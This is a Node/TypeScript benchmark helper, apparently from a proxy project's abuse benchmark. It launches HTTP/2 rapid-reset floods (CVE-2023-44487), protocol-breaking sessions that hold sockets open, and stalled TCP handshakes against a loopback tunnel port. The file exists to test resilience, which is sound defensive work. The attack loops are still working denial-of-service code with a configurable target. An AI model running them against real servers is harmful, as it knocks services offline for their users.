#!/usr/bin/env node
/**
 * The attacker of `npm run bench:abuse`, in a process of its own so that its CPU use does not show up in the
 * latency the benchmark measures for an unrelated caller. Runs one attack against a tunnel port on loopback
 * until SIGTERM, then prints what it did as one JSON line.
 *
 *   node dist/bench/abuse-attacker.js '{"attack":"rapid-reset","host":"127.0.0.1","port":15008,...}'
 *
 * Attacks (raw frames on real mTLS sessions, bench/h2-frames.ts):
 * - `rapid-reset`: sequential sessions, each writing HEADERS + RST_STREAM pairs for `streams` streams
 *   (CVE-2023-44487), as an identity the policy denies.
 * - `broken-sessions`: `concurrency` sessions at a time that each send a frame nghttp2 ends the session for
 *   (a DATA frame on stream 0, or a 70 KB header field) and then keep their socket open, reading nothing.
 * - `stalled-handshakes`: `connections` TCP connections from one source that never send a TLS byte.
 */
import { readFileSync } from 'node:fs';
import { connect as netConnect, type Socket } from 'node:net';
import { openRawSession, oversizedHeaderFrames, protocolErrorFrame, rapidResetBurst } from './h2-frames.js';

export type AttackName = 'rapid-reset' | 'broken-sessions' | 'stalled-handshakes';

export interface AttackSpec {
  readonly attack: AttackName;
  readonly host: string;
  readonly port: number;
  readonly localAddress: string;
  readonly certFile: string;
  readonly keyFile: string;
  readonly caFile: string;
  /** `<service>.<namespace>:<port>` of the target's app. */
  readonly authority: string;
  readonly streams?: number;
  readonly concurrency?: number;
  readonly connections?: number;
}

interface AttackStats {
  attack: AttackName;
  /** Sessions (or TCP connections) opened. */
  opened: number;
  /** Of those, how many the target closed while the attack ran. */
  closedByTarget: number;
  /** Streams written as HEADERS + RST_STREAM (rapid reset); the target reads them until it ends the session. */
  streamsWritten: number;
  /** Connections that could not even be opened (refused at once). */
  failed: number;
}

const STREAM_BATCH = 500;

async function main(): Promise<void> {
  const spec = JSON.parse(process.argv[2] ?? '{}') as AttackSpec;
  const tls = { certChainPem: readFileSync(spec.certFile, 'utf8'), keyPem: readFileSync(spec.keyFile, 'utf8'), caPem: readFileSync(spec.caFile, 'utf8') };
  const stats: AttackStats = { attack: spec.attack, opened: 0, closedByTarget: 0, streamsWritten: 0, failed: 0 };
  let stopping = false;
  const held: Socket[] = [];
  process.on('SIGTERM', () => {
    stopping = true;
    process.stdout.write(`${JSON.stringify(stats)}\n`);
    for (const s of held) s.destroy();
    process.exit(0);
  });
  const open = (): ReturnType<typeof openRawSession> => openRawSession({ host: spec.host, port: spec.port, localAddress: spec.localAddress, ...tls });

  if (spec.attack === 'rapid-reset') {
    const streams = spec.streams ?? 3_000;
    while (!stopping) {
      try {
        const s = await open();
        stats.opened += 1;
        let closed = false;
        void s.closed.then(() => {
          closed = true;
          stats.closedByTarget += 1;
        });
        // Client stream ids are odd and must grow; a few batches per session, as a scripted client would.
        for (let sent = 0; sent < streams && !closed; sent += STREAM_BATCH) {
          const count = Math.min(STREAM_BATCH, streams - sent);
          s.socket.write(rapidResetBurst(1 + 2 * sent, count, spec.authority));
          stats.streamsWritten += count;
          await new Promise((r) => setImmediate(r));
        }
        await Promise.race([s.closed, new Promise((r) => setTimeout(r, 1_000))]);
        s.socket.destroy();
      } catch {
        stats.failed += 1;
        await new Promise((r) => setTimeout(r, 50));
      }
    }
  } else if (spec.attack === 'broken-sessions') {
    const concurrency = spec.concurrency ?? 8;
    let n = 0;
    const worker = async (): Promise<void> => {
      while (!stopping) {
        try {
          const s = await open();
          stats.opened += 1;
          held.push(s.socket);
          void s.closed.then(() => (stats.closedByTarget += 1));
          s.socket.write(n++ % 2 === 0 ? protocolErrorFrame() : oversizedHeaderFrames(1, spec.authority, 70_000));
          // Reads nothing more: a graceful end of this socket can never complete.
          s.socket.pause();
        } catch {
          stats.failed += 1;
          await new Promise((r) => setTimeout(r, 50));
        }
      }
    };
    await Promise.all(Array.from({ length: concurrency }, worker));
  } else {
    const connections = spec.connections ?? 1_020;
    for (let i = 0; i < connections && !stopping; i++) {
      const socket = netConnect({ host: spec.host, port: spec.port, localAddress: spec.localAddress });
      socket.on('error', () => undefined);
      socket.once('close', () => (stats.closedByTarget += 1));
      held.push(socket);
      stats.opened += 1;
      if (i % 50 === 49) await new Promise((r) => setTimeout(r, 5));
    }
    await new Promise(() => undefined);
  }
}

main().catch((err: unknown) => {
  process.stderr.write(`abuse attacker failed: ${err instanceof Error ? err.stack : String(err)}\n`);
  process.exitCode = 1;
});
